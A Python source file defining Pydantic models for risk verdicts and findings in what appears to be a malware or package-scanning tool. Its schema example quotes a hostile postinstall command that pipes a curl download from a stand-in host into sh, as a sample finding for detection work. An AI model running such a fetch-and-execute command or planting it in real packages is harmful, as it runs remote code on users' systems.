"""
RiskVerdict model - the normalized result returned for every analysis.
"""

from typing import Literal, Optional

from pydantic import BaseModel, ConfigDict, Field


RiskLevel = Literal["Low", "Medium", "High", "Critical", "Unknown"]

RISK_LEVELS: tuple[str, ...] = ("Low", "Medium", "High", "Critical", "Unknown")


class Finding(BaseModel):
    """
    A single finding reported by the model.
    The type is freeform; the UI colors it by keyword.
    """

    type: str = Field(..., description="Finding category, e.g. 'Obfuscation'")
    description: str = Field(default="", description="What was found and why it matters")
    relevant_lines: list[str] = Field(
        default_factory=list, description="Code lines or data points backing the finding"
    )


class RiskVerdict(BaseModel):
    """
    Shape-guaranteed verdict synthesized from the model's raw output.
    """

    risk_score: int = Field(default=0, ge=0, le=100, description="Risk score 0-100")
    risk_level: RiskLevel = Field(default="Unknown", description="Risk bucket")
    summary: str = Field(default="No summary available.", description="Short verdict summary")
    key_findings: list[Finding] = Field(default_factory=list)
    raw_output: Optional[str] = Field(
        default=None, description="Raw model text when it could not be parsed"
    )

    model_config = ConfigDict(
        json_schema_extra={
            "example": {
                "risk_score": 88,
                "risk_level": "Critical",
                "summary": "Postinstall script downloads and executes a remote payload",
                "key_findings": [
                    {
                        "type": "Suspicious Install Script",
                        "description": "postinstall pipes a curl download into sh",
                        "relevant_lines": ["curl -s http://evil.example/x.sh | sh"],
                    }
                ],
            }
        }
    )
